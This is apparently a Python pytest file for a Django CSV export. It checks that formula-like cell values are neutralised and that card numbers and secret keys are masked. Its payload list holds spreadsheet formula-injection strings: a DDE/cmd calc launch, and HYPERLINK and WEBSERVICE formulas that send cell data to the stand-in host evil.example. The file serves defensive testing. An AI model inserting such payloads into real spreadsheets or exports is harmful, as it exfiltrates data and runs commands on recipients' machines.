"""Nothing in a cell becomes a formula, and no card number leaves; files and single cells agree on both."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection

from customers.money import to_decimal
from customers.sheets import SIGNS, harmless
from reporting.exports.cells import decimal_sql
from reporting.exports.harmless_lines import HarmlessLines
from reporting.exports.masking import without_secrets

pytestmark = pytest.mark.django_db

_PAYLOADS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"look")', 'WEBSERVICE("http://evil.example")',
    "SUM(1,2)", "DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
FORMULAS = [
    *(f"{sign}{payload}" for sign in SIGNS for payload in _PAYLOADS[:3]),
    *(
        f"{begin}={payload}"
        for begin in ("\t", "\r", "\n", " ", "'", '"', " '\"", "\x01", "\x1f ")
        for payload in _PAYLOADS
    ),
    *("\t1", "\r1", "\n1", "-2+3", "@x", "=a;b", '=a,"b"', "=a\r\nb", "＝1＋1", "＋1", "－1", "＠SUM(1)"),
]
PLAIN = [
    "", "Mila", "RF-2026-000001", "a=b", "1-2", "two\nlines", "tab\there", "üäö", "日本", "'quoted'", '"so"', "a\x01b",
    " leading", "x" * 2000, "{json: 1}", ";", ",", "|", "\\N", "\\.", "é\u0301", "🎁 gift",
]  # fmt: skip


def lines_of(texts: list[str]) -> list[str]:
    """Each text between two others as a line of CSV, made harmless as a file's lines are, and read again."""
    lines = ['"RF-1",{},-43.10,"Mila"\n'.format('"' + text.replace('"', '""') + '"').encode() for text in texts]
    harmless_lines = HarmlessLines()
    made = [line if harmless_lines.is_plain(line, 1) else harmless_lines.mended(line) for line in lines]
    rows = csv.reader(io.StringIO(b"".join(made).decode(), newline=""))
    return [cell for first, cell, amount, last in rows if (first, amount, last) == ("RF-1", "-43.10", "Mila")]


def test_lines_are_made_harmless_exactly_as_cells_are():
    corpus = FORMULAS + PLAIN
    assert len(FORMULAS) >= 60
    assert lines_of(corpus) == [harmless(text) for text in corpus]


def test_each_formula_is_made_harmless_and_plain_text_is_left_alone():
    assert all(cell.startswith("'") for cell in lines_of(FORMULAS))
    assert [cell for cell in lines_of(PLAIN) if cell.startswith("'")] == ["'quoted'"]


def test_plain_lines_are_seen_to_be_so_whatever_stands_in_the_middle_of_a_cell():
    """Otherwise each line would be read cell by cell, which is right as well, and thirty times as slow."""
    plain = '"Lamp, 3 = 2 + 1","","é","A ""so"" B",-1.00\n"(x)","日本","a@b.example","a-",-12\n'.encode()
    assert HarmlessLines().is_plain(plain * 1000, 2000)
    assert not HarmlessLines().is_plain(plain * 1000 + b'"=1"\n', 2001)


@pytest.mark.parametrize(
    ("minor", "currency"), [(4310, "EUR"), (-1, "USD"), (1200, "JPY"), (1234, "KWD"), (5, "CLF"), (0, "JPY")]
)
def test_amounts_have_the_digits_of_their_currency(minor, currency):
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT ({decimal_sql('a', 'c')})::text FROM (SELECT {minor}::bigint a, '{currency}'::text c) t"
        )
        assert cursor.fetchone()[0] == str(to_decimal(minor, currency))


def test_card_numbers_and_keys_are_taken_out_of_every_piece():
    piece = b'"RF-1","4111 1111 1111 1111","sk_live_abcdefgh"\n"RF-2","order 2026-11-30 12","4242424242424242"\n'
    kept = without_secrets(piece + "ü 5555-5555-5555-4444\n".encode(), []).decode()
    assert "4111" not in kept and "4242424242424242" not in kept and "sk_live" not in kept and "5555-" not in kept
    assert "[card ending 1111]" in kept and "order 2026-11-30 12" in kept and kept.count("\n") == 3
    wide = (
        "４１１１ １１１１ １１１１ １１１１ | "
        "4111\u20131111\u20131111\u20131111 | 4111\u00a01111\u00a01111\u00a01111\n"
    )
    assert without_secrets(wide.encode(), []).decode().count("[card ending 1111]") == 3
    assert b"hunter22" not in without_secrets(b'"x hunter22 y"\n', [b"hunter22"])
